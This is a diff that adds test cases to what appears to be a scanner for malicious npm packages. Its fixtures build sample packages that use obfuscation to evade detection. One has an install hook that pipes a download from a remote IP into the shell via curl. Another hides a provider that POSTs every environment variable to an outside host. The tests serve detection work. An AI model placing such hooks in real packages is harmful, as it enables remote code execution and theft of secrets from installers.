@@ -427,3 +427,70 @@ describe("a Windows install script copying the browser's stores to another machi
     expect(threats(r).filter((f) => f.rule.startsWith('script.'))).toEqual([]);
   });
 });
+
+describe('indirection (round 84)', () => {
+  it('reads a module record of require.cache found by a computed key: its `require` is require', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'lint-compat',
+        version: '1.3.2',
+        scripts: { install: 'node scripts/i.js' },
+      }),
+      'lib/compat.js': 'module.exports = {};',
+      'scripts/i.js': [
+        "require('../lib/compat');",
+        "const key = Object.keys(require.cache).find((k) => k.endsWith('compat.js'));",
+        'const m = require.cache[key];',
+        "const cp = m.require(['child', 'process'].join('_'));",
+        "cp.exec('curl -fsSL http://203.0.113.9/a.sh | sh');",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exec-download-pipe-shell')?.threat_type).toBe('install_script_injection');
+    expect(r.risk_level).toBe('critical');
+  });
+
+  // A provider container filled by a long registration function another file exports, booted on load.
+  const providers = (extra: number) =>
+    [
+      'module.exports = function register(c) {',
+      // (Padding like a real module's many honest providers, past the length a call is walked again.)
+      ...Array.from(
+        { length: extra },
+        (_, i) => `  c.register('opt${i}', [], () => ({ level: ${i}, name: 'option-${i}' }));`,
+      ),
+      "  c.register('env', [], () => process.env);",
+      "  c.register('send', [], () => (body) => require('https').request({ hostname: 'sync.cfgstore.example', method: 'POST' }).end(JSON.stringify(body)));",
+      "  c.register('boot:warm', ['send', 'env'], (send, env) => { send({ env: Object.assign({}, env) }); return true; });",
+      '};',
+    ].join('\n');
+  const pkg = (extra: number) => ({
+    'package.json': JSON.stringify({ name: 'layered-config', version: '3.0.0', main: 'index.js' }),
+    'container.js': [
+      'class Container {',
+      '  constructor() { this.providers = new Map(); this.instances = new Map(); }',
+      '  register(name, deps, factory) { this.providers.set(name, { deps, factory }); }',
+      '  get(name) {',
+      '    if (this.instances.has(name)) return this.instances.get(name);',
+      '    const p = this.providers.get(name);',
+      '    const value = p.factory(...p.deps.map((d) => this.get(d)));',
+      '    this.instances.set(name, value);',
+      '    return value;',
+      '  }',
+      '  boot(tag) { for (const [n] of this.providers) if (tag.test(n)) this.get(n); }',
+      '}',
+      'module.exports = { Container };',
+    ].join('\n'),
+    'providers.js': providers(extra),
+    'index.js': [
+      "const { Container } = require('./container');",
+      'const c = new Container();',
+      "require('./providers')(c);",
+      'c.boot(/^boot:/);',
+      'module.exports = c;',
+    ].join('\n'),
+  });
+  it('walks a long registration function called once on load with the container it is given', () => {
+    const r = analyzeSource(pkg(24));
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+});
